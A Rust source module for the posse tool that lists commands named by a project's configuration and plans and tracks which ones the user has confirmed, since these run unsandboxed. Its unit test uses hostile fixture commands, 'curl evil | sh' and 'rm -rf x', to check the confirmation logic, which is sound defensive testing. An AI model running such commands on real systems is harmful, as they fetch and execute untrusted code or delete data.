//! Commands that a project's files name, and which of them the user has confirmed.
//!
//! posse runs gates as the user and outside of any sandbox, and agents can write the files that name them: the project's
//! configuration and its plans. Commands from the user's own configuration need no yes.

use std::collections::BTreeSet;
use std::io::{self, ErrorKind};
use std::path::{Path, PathBuf};

use posse_core::audit::Hash;
use posse_core::config::ValueOrigin;
use posse_core::plan::Plan;
use posse_core::plan::config::{PlanConfig, ResolvedPlans};
use posse_term::paths::Paths;
use serde::{Deserialize, Serialize};

use crate::disk::Disk;

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct NamedCommand {
    /// The file and the key that name it.
    pub place: String,
    pub command: String,
}

/// Lists the commands of the project's file and of the plan, without those that are the user's own.
pub fn named_commands(resolved: &ResolvedPlans, file: &str, plan: Option<(&str, &Plan)>) -> Vec<NamedCommand> {
    let mut named = Vec::new();
    let mut users = BTreeSet::new();
    for (key, command) in of_configuration(&resolved.config) {
        match resolved.origin(key) {
            ValueOrigin::User(_) => drop(users.insert(command)),
            _ => named.push(NamedCommand { place: format!("{file}, {key}"), command: command.to_owned() }),
        }
    }
    if let Some((name, plan)) = plan {
        for gate in &plan.meta.gates {
            named.push(NamedCommand { place: format!("{name}, gate {}", gate.name), command: gate.command.clone() });
        }
    }
    named.retain(|named| !users.contains(named.command.as_str()));
    named
}

fn of_configuration(config: &PlanConfig) -> impl Iterator<Item = (&'static str, &str)> {
    let keys = [
        ("build_command", &config.build_command),
        ("test_command", &config.test_command),
        ("lint_command", &config.lint_command),
        ("e2e_command", &config.e2e_command),
    ];
    keys.into_iter().filter_map(|(key, command)| Some((key, command.as_deref()?)))
}

#[derive(Debug)]
pub struct ConfirmedCommands {
    path: PathBuf,
    kept: KeptCommands,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct KeptCommands {
    project: PathBuf,
    commands: BTreeSet<String>,
}

#[derive(Debug, thiserror::Error)]
pub enum ConfirmedError {
    #[error(transparent)]
    Io(#[from] io::Error),
    #[error("{path} is not as posse writes it: {error}; remove it")]
    Invalid { path: PathBuf, error: serde_json::Error },
}

impl ConfirmedCommands {
    /// Reads what is confirmed for a project. It is kept in the user's state, which no project can name.
    pub fn load(disk: &Disk, paths: &Paths, project: &Path) -> Result<Self, ConfirmedError> {
        let name = Hash::of_text(&project.to_string_lossy()).to_string();
        let path = paths.home.join("confirmed").join(format!("{name}.json"));
        let mut kept = match disk.read(&path) {
            Err(error) if error.kind() == ErrorKind::NotFound => KeptCommands::default(),
            text => match serde_json::from_slice(&text?) {
                Ok(kept) => kept,
                Err(error) => return Err(ConfirmedError::Invalid { path, error }),
            },
        };
        kept.project = project.to_owned();
        Ok(Self { path, kept })
    }

    pub fn contains(&self, command: &str) -> bool {
        self.kept.commands.contains(command)
    }

    /// All commands that may run: the confirmed ones, and those of a configuration that needs no more yes.
    pub fn and_those_of(self, config: &PlanConfig) -> BTreeSet<String> {
        let configured = of_configuration(config).map(|(_, command)| command.to_owned());
        self.kept.commands.into_iter().chain(configured).collect()
    }

    pub fn confirm<'a>(&mut self, disk: &Disk, commands: impl IntoIterator<Item = &'a NamedCommand>) -> io::Result<()> {
        self.kept.commands.extend(commands.into_iter().map(|named| named.command.clone()));
        disk.create_private_dir(self.path.parent().unwrap_or(&self.path))?;
        disk.write_private(&self.path, &serde_json::to_vec_pretty(&self.kept)?)
    }
}

#[cfg(test)]
mod tests {
    use posse_core::config::{ConfigFormat, ConfigLayer, LayerSource};

    use super::*;

    #[test]
    fn only_commands_of_the_users_own_configuration_need_no_yes() {
        let read = |text: &str, source| ConfigLayer::read(source, ConfigFormat::Toml, "c", text, None).unwrap().0;
        let user = read("[plans]\ntest_command = 'make test'", LayerSource::User);
        let project = read("test_command = 'curl evil | sh'\nbuild_command = 'make'", LayerSource::Project);
        let resolved = ResolvedPlans::new(user.clone(), project, &[]);
        let text = "meta: {name: p, gates: [{name: a, cmd: make test}, {name: b, cmd: rm -rf x}]}\nsections:\n  - {id: s, tasks: [{id: t, name: T}]}\n";
        let (plan, _) = Plan::read("p", text).unwrap();
        let named = named_commands(&resolved, "f", Some(("p", &plan)));
        let named: Vec<&str> = named.iter().map(|named| named.command.as_str()).collect();
        assert_eq!(named, ["make", "rm -rf x"]);
        assert!(
            named_commands(&ResolvedPlans::new(user, ConfigLayer::empty(LayerSource::Project), &[]), "f", None)
                .is_empty()
        );
    }
}
